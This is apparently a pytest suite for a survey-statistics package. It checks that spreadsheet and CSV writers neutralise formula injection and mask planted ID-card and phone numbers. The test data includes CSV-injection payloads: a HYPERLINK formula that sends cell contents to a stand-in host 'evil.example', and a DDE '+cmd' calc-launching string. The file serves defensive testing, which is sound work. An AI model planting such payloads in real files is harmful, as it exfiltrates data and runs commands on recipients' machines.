"""Every writer of the package, fed with formulas and personal data planted in names, answers and ids.

Each workbook is read back with openpyxl: no cell may be a formula (the package writes none on
purpose), and the planted text must be there as text.  Each CSV cell that starts with ``= + - @``,
tab or CR must carry the OWASP quote unless it is a number.  No planted ID-card or phone number
may appear in any output unmasked.
"""

from __future__ import annotations

import csv
import datetime as dt
import re
import warnings
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

import survey_stats as ss
from survey_stats.safe_output import write_csv, write_workbook

FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"点击查看")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(A1)",
            "=1+1", "\t=1+1", "\r=1+1", "#N/A"]
_NUMBER = re.compile(r"^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$")
_W = [7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2]


def make_id(i: int) -> str:
    body = f"340123{dt.date(1970, 1, 1) + dt.timedelta(days=97 * i):%Y%m%d}{i % 1000:03d}"
    return body + "10X98765432"[sum(int(d) * w for d, w in zip(body, _W)) % 11]


def make_phone(i: int) -> str:
    return f"1{3 + i % 7}{(12345678 + 7919 * i) % 10**9:09d}"


def planted_registry(n: int = 60) -> pd.DataFrame:
    """A registry whose personal data sit under unhelpful names and whose text holds formulas."""
    return pd.DataFrame({
        "household_id": [f"{FORMULAS[i]}#{i}" if i < len(FORMULAS) else f"{i:05d}" for i in range(n)],
        "county": ["=A1" if i % 2 else "姑苏区" for i in range(n)],
        "col7": [make_id(i) for i in range(n)],  # ID-card numbers
        "lxdh": [make_phone(i) for i in range(n)],  # phones (pinyin abbreviation)
        "c8": [int(make_phone(i + 100)) for i in range(n)],  # phones stored as numbers
        "备注": [f"{FORMULAS[i % len(FORMULAS)]} 联系 {make_phone(i + 200)[:3]}-{make_phone(i + 200)[3:7]}-"
               f"{make_phone(i + 200)[7:]} 座机 0551-6234{i:04d}" for i in range(n)],
        "hzxm": [FORMULAS[i % len(FORMULAS)] + "张三" for i in range(n)],  # householder's name (pinyin)
        "members": [1 + i % 5 for i in range(n)],
        "balance": [-1.5 - i for i in range(n)],
    })


def planted_values(reg: pd.DataFrame) -> list[str]:
    """The digits of every planted ID-card and phone number."""
    phones = [make_phone(i + 200) for i in range(len(reg))]
    lands = [f"05516234{i:04d}" for i in range(len(reg))]
    return [*reg["col7"], *reg["lxdh"], *map(str, reg["c8"]), *phones, *lands]


def output_text(path: Path) -> str:
    if path.suffix == ".xlsx":
        wb = openpyxl.load_workbook(path)
        return "\n".join(str(c.value) for ws in wb for row in ws.iter_rows() for c in row if c.value is not None)
    return path.read_text(encoding="utf-8-sig")


def assert_no_pii(text: str, planted: list[str], where: str) -> None:
    squeezed = re.sub(r"[\s()+\-]", "", text)
    leaked = [v for v in planted if v.upper() in squeezed.upper()]
    assert not leaked, f"{where}: unmasked personal data {leaked[:3]}"
    assert not re.search(r"(?<!\d)(\d{17}[\dXx]|1[3-9]\d{9})(?!\d)", text), where


def assert_no_formulas(path: Path, expect_text: tuple[str, ...] = ()) -> None:
    wb = openpyxl.load_workbook(path)
    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
    formulas = [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert not formulas, f"{path.name}: formula cells {formulas[:3]}"
    assert not [c for c in cells if c.data_type == "e"], f"{path.name}: error cells"
    values = {str(c.value) for c in cells}
    for text in expect_text:
        assert any(text in v for v in values), f"{path.name}: {text!r} not written as text"


def assert_csv_neutralised(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    for row in rows:
        for cell in row:
            if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
                assert _NUMBER.match(cell), f"{path.name}: live formula {cell!r}"
    return rows


def test_safe_output_writers(tmp_path):
    reg = planted_registry()
    report = write_workbook(tmp_path / "t.xlsx", {"=sheet": reg, "two": reg.head(3)})
    assert_no_formulas(tmp_path / "t.xlsx", expect_text=("=HYPERLINK", "+cmd", "-1+1", "@SUM(A1)", "#N/A"))
    ws = openpyxl.load_workbook(tmp_path / "t.xlsx")["=sheet"]
    assert [c.value for c in ws["I"]][1:4] == [-1.5, -2.5, -3.5]  # numbers stay numbers
    assert report.counts[("col7", "id_card")] == 2 * 60 - 57
    assert_no_pii(output_text(tmp_path / "t.xlsx"), planted_values(reg), "write_workbook")
    write_csv(reg, tmp_path / "t.csv")
    rows = assert_csv_neutralised(tmp_path / "t.csv")
    assert rows[1][0] == "'" + FORMULAS[0] + "#0" and rows[1][-1] == "-1.5"
    assert_no_pii(output_text(tmp_path / "t.csv"), planted_values(reg), "write_csv")


@pytest.fixture
def sample():
    reg = planted_registry()
    return ss.select(ss.Frame(reg, id="household_id", strata="county"), n=20, seed=4, reserve=5), reg


def test_field_lists_units_reserve_and_manifest(sample, tmp_path):
    s, reg = sample
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        s.field_lists(tmp_path / "field.xlsx", by="county",
                      columns=["household_id", "hzxm", "lxdh", "c8", "col7", "备注", "members"])
    assert_no_formulas(tmp_path / "field.xlsx", expect_text=("=HYPERLINK", "@SUM(A1)"))
    wb = openpyxl.load_workbook(tmp_path / "field.xlsx")
    assert sorted(wb.sheetnames) == ["=A1", "姑苏区"]
    assert s.masked.counts[("col7", "id_card")] == len(s) and s.masked.counts[("lxdh", "phone")] == len(s)
    s.write_units(tmp_path / "units.csv")
    s.write_reserve(tmp_path / "reserve.csv")
    s.write_manifest(tmp_path / "manifest.json")
    header = assert_csv_neutralised(tmp_path / "units.csv")[0]
    assert "hzxm" not in header and "lxdh" not in header and "col7" in header
    assert_csv_neutralised(tmp_path / "reserve.csv")
    for name in ("field.xlsx", "units.csv", "reserve.csv", "manifest.json"):
        assert_no_pii(output_text(tmp_path / name), planted_values(reg), name)
    back = ss.read_table(tmp_path / "units.csv", text_columns=["household_id"])
    assert back["household_id"].tolist() == s.units["household_id"].tolist()  # formulas neutralised, ids intact


def test_units_file_refused_when_the_id_is_personal_data(tmp_path):
    reg = planted_registry()
    s = ss.select(ss.Frame(reg, id="col7"), n=5, seed=1)
    with pytest.raises(ss.DataError, match="holds ID-card or phone numbers"):
        s.write_units(tmp_path / "units.csv")


def test_validation_report_workbook(tmp_path):
    form = ss.load_questionnaire(ss.questionnaire_path("home_visit"))
    raw = ss.generate_responses(form, 8, seed=1)
    raw["household_id"] = [make_id(i) for i in range(8)]
    members = [c for c in raw.columns if c.split("/")[-1] == "members"][0]
    raw[members] = [f'=HYPERLINK("http://x","{make_phone(i)}")' for i in range(8)]
    raw.loc[[1, 2], "household_id"] = raw.loc[0, "household_id"]
    rep = ss.validate(ss.read_export(raw, form), form)
    assert rep.problems["problem"].eq("duplicate submission").sum() == 2
    rep.to_excel(tmp_path / "validation.xlsx")
    assert_no_formulas(tmp_path / "validation.xlsx", expect_text=("=HYPERLINK",))
    assert_no_pii(output_text(tmp_path / "validation.xlsx"), [make_id(i) for i in range(8)]
                  + [make_phone(i) for i in range(8)], "validation report")


def test_registry_audit_workbook(tmp_path):
    reg = ss.datasets.simulate_review(seed=3)["registry"].head(40).copy()
    reg.loc[0, "household_id"] = "=HYPERLINK(\"http://x\")"
    reg.loc[1, "county"] = "@SUM(A1)"
    reg.loc[2, "id_card"] = reg.loc[3, "id_card"]  # duplicated ID number: listed, masked
    audit = ss.review.audit_registry(reg)
    audit.to_excel(tmp_path / "audit.xlsx")
    assert_no_formulas(tmp_path / "audit.xlsx", expect_text=("=HYPERLINK", "@SUM(A1)"))
    planted = [*reg["id_card"].astype(str), *reg["phone"].astype(str)]
    assert_no_pii(output_text(tmp_path / "audit.xlsx"), planted, "audit workbook")


SRC = Path(ss.__file__).parent
# files that may read tables without read_table, and why
READ_ALLOWED = {
    "readers.py": "the reader itself",
    "datasets.py": "bundled example data shipped with the package",
    "questionnaires/schema.py": "XLSForm definitions, read entirely as text",
    "questionnaires/responses.py": "read_export: moving to read_table in the exports work",
}


def test_every_table_written_goes_through_safe_output_and_read_through_read_table():
    writers = re.compile(r"\.to_csv\(|\.to_excel\(\w+, |ExcelWriter|\.cell\([^)]*value="
                         r"|\bws\.append\((?!\[\]\))|wb\[[^\]]+\]\.append\((?!\[\]\))")
    readers = re.compile(r"\bread_csv\(|\bread_excel\(")
    bad_write, bad_read = [], []
    for path in SRC.rglob("*.py"):
        rel = path.relative_to(SRC).as_posix()
        text = path.read_text(encoding="utf-8")
        if rel != "safe_output.py":
            bad_write += [f"{rel}: {m.group()}" for m in writers.finditer(text)]
        if rel not in READ_ALLOWED:
            bad_read += [f"{rel}: {m.group()}" for m in readers.finditer(text)]
    assert bad_write == [] and bad_read == []


def test_long_household_numbers_stay_usable_as_ids(tmp_path):
    reg = planted_registry(20)
    reg["household_id"] = [f"3413020001{i:08d}" for i in range(20)]  # 18-digit household codes (no birth date)
    reg["bank"] = [f"62220202001{i:08d}" for i in range(20)]
    s = ss.select(ss.Frame(reg, id="household_id"), n=5, seed=1)
    report = s.write_units(tmp_path / "units.csv")
    back = ss.read_table(tmp_path / "units.csv", text_columns=["household_id"])
    assert back["household_id"].tolist() == s.units["household_id"].tolist()
    assert list(back.columns[:2]) == ["household_id", "county"]
    assert report.counts[("bank", "long_number")] == 5 and back["bank"].str.startswith("*").all()
